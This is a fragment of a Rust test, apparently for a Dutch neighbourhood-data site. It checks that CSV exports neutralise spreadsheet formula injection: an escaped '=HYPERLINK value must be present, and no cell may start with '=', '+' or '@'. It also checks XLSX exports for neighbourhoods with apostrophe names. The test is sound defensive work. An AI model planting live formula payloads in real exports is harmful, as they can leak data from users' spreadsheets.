        assert_eq!(csv.status, StatusCode::OK);
        assert!(csv.body.contains("'=HYPERLINK"), "{}", csv.body);
        for line in csv.body.trim_start_matches('\u{feff}').lines() {
            for cell in line.split(';') {
                assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '@']), "a live formula: {line}");
            }
        }
        // Buurten whose names start with an apostrophe ('t Wilbert, 't Rot) are sheets too.
        for code in ["BU01640102", "BU01640204"] {
            let xlsx = site.get(&format!("/monitor/gebied/{code}/data.xlsx"), &public).await;
            assert_eq!(xlsx.status, StatusCode::OK, "{code}: {}", xlsx.body);
        }
    }
}
